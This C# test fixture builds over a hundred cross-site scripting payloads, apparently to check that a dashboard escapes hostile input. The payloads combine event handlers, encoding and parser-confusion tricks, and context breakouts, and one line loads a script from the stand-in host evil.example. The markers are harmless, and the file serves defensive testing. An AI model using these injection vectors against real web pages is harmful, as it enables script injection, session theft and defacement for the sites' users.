namespace CcgcStream.Dashboard.Tests.Hostile;

/// <summary>Over a hundred ways to run a script in a page, built from a few parts; each would call <c>alert</c> or set a mark on the window.</summary>
internal static class Payloads
{
    private static readonly string[] Handlers = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter"];
    private static readonly string[] Calls = ["window.__hit=1", "alert(1)", "top['__hit']=1", "self.__hit=1;alert`1`"];

    private static readonly string[] Whole =
    [
        "<script>window.__hit=1</script>", "</script><script>window.__hit=1</script>", "<ScRiPt>window.__hit=1</sCrIpT>", "<script src=//evil.example/x.js></script>",
        "<svg><script>window.__hit=1</script></svg>", "<svg/onload=window.__hit=1>", "<math><mtext><script>window.__hit=1</script>", "<iframe srcdoc='<script>parent.__hit=1</script>'>",
        "<iframe src=javascript:window.__hit=1>", "<object data=javascript:window.__hit=1>", "<embed src=javascript:window.__hit=1>", "<a href=javascript:window.__hit=1>x</a>",
        "<form action=javascript:window.__hit=1><input type=submit>", "<meta http-equiv=refresh content='0;url=javascript:window.__hit=1'>", "<base href=javascript:/a/-window.__hit=1//>",
        "<link rel=stylesheet href=data:,*{background:red}>", "<style>@import 'javascript:window.__hit=1'</style>", "\"><script>window.__hit=1</script>", "'><script>window.__hit=1</script>",
        "--><script>window.__hit=1</script>", "]]><script>window.__hit=1</script>", "</title><script>window.__hit=1</script>", "</textarea><script>window.__hit=1</script>",
        "</style><script>window.__hit=1</script>", "<!--<img src='--><img src=x onerror=window.__hit=1>'>", "{{constructor.constructor('window.__hit=1')()}}", "${window.__hit=1}", "@(window.__hit=1)",
        "<%= window.__hit=1 %>", "javascript:window.__hit=1", "&lt;script&gt;window.__hit=1&lt;/script&gt;", "&#60;script&#62;window.__hit=1&#60;/script&#62;", "\\u003cscript\\u003ewindow.__hit=1\\u003c/script\\u003e",
        "%3Cscript%3Ewindow.__hit=1%3C/script%3E", "+ADw-script+AD4-window.__hit=1+ADw-/script+AD4-", "\u202e<script>window.__hit=1</script>", "<scr\u0000ipt>window.__hit=1</script>", "＜script＞window.__hit=1＜/script＞",
        "<!--Blazor:{\"type\":\"server\",\"sequence\":0}-->", "<!--bl:1--><script>window.__hit=1</script>", "<template><script>window.__hit=1</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=window.__hit=1>\">",
    ];

    /// <summary>All payloads, each different.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Whole,
        .. from handler in Handlers from call in Calls select $"<img src=x {handler}={call}>",
        .. from handler in Handlers from call in Calls select $"\" autofocus {handler}=\"{call}\" x=\"",
        .. from handler in Handlers select $"<details open {handler}=window.__hit=1>",
    ];
}
